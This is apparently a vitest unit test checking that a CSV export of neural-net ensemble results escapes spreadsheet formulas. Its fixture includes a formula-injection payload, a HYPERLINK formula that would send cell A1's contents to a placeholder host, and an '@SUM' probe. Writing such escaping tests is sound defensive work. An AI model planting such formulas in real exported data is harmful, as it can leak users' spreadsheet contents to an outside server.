import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { fusionToCsv, type FusedNet } from '../../src-main/tables/fusion.ts';

it('names runs in CSV so that no spreadsheet computes them', () => {
  const net: FusedNet = {
    label: '=HYPERLINK("http://a.example?"&A1,"best run")',
    config: 'D',
    trainScale: 256,
    testScales: [256],
    protocol: 'dense',
    average: 'before-softmax',
    horizontalFlip: true,
    checkpoint: 'best',
    alone: { top1Error: 25.5, top5Error: 8 },
  };
  const csv = fusionToCsv({
    nets: [net, { ...net, label: 'plain' }],
    fused: { top1Error: 24, top5Error: 7.5, images: 100, dataset: '@SUM(1)' },
  });
  const rows = parse<Record<string, string>>(csv, { columns: true });
  expect(rows.map(({ run }) => run)).toEqual([`'${net.label}`, 'plain', 'mean posterior']);
  expect(rows[0]).toMatchObject({ top1_error: '25.5', images: '100', dataset: "'@SUM(1)" });
});
